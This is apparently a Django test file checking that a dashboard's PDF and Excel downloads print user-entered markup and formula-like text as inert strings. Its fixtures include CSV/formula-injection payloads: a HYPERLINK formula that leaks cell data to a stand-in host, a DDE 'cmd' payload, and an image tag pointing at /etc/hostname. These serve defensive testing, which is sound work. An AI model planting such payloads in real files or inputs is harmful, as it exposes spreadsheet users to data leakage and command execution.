"""Downloads carry text as text: markup in a meeting title, an action or a department name
does not reach reportlab, and a formula typed as a title is not live in any workbook."""

import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Role
from projects.models import Department, Proposal
from reviews.models import FollowUpAction, ReviewMeeting

from ..factories import UserFactory
from .dashboard_data import known_portfolio

pytestmark = pytest.mark.django_db

MARKUP = 'x <img src="/etc/hostname"/> <font color="red">빨강</font> & <b>굵게'
FIGURE = re.compile(r"[+-]\d[\d,]*(\.\d+)?(%p?)?")  # the briefing's changes: -8.3%p, +1
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def signed_in(client):
    client.force_login(UserFactory(role=Role.PLANNING))
    return client


def test_markup_in_titles_descriptions_and_names_is_printed_not_obeyed(signed_in):
    """The briefing PDF answers 200, one page, and embeds no image from a server path."""
    known_portfolio()
    ReviewMeeting.objects.update(title=MARKUP)
    FollowUpAction.objects.update(description=MARKUP)
    Department.objects.filter(name="가부서").update(name=MARKUP)

    response = signed_in.get(reverse("dashboard:briefing_pdf"))

    assert response.status_code == 200
    assert b"/Subtype /Image" not in response.content
    assert len(re.findall(rb"/Type /Page[^s]", response.content)) == 1


def _cells(content):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def test_a_formula_title_is_exported_as_text_in_the_proposal_and_follow_up_workbooks(signed_in):
    """Every export prefixes an apostrophe: the cell is a string, never a formula."""
    known_portfolio()
    Proposal.objects.update(title=FORMULA)
    FollowUpAction.objects.update(description="@SUM(1+1)")
    ReviewMeeting.objects.update(title="+cmd|' /C calc'!A0")
    Department.objects.filter(name="가부서").update(name="-2+3")

    downloads = [
        signed_in.get(reverse("dashboard:proposals_xlsx")),
        signed_in.get(reverse("dashboard:actions_xlsx")),
        signed_in.get(reverse("dashboard:briefing_xlsx")),
    ]

    for response in downloads:
        assert response.status_code == 200
        cells = _cells(response.content)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = [c.value for c in cells if isinstance(c.value, str)]
        live = [t for t in texts if t[:1] in "=+-@" and not FIGURE.fullmatch(t)]
        assert not live, live
    proposal_texts = [c.value for c in _cells(downloads[0].content)]
    assert "'" + FORMULA in proposal_texts
    action_texts = [c.value for c in _cells(downloads[1].content)]
    assert "'@SUM(1+1)" in action_texts and "'+cmd|' /C calc'!A0" in action_texts
    briefing_texts = [c.value for c in _cells(downloads[2].content)]
    assert "'-2+3" in briefing_texts
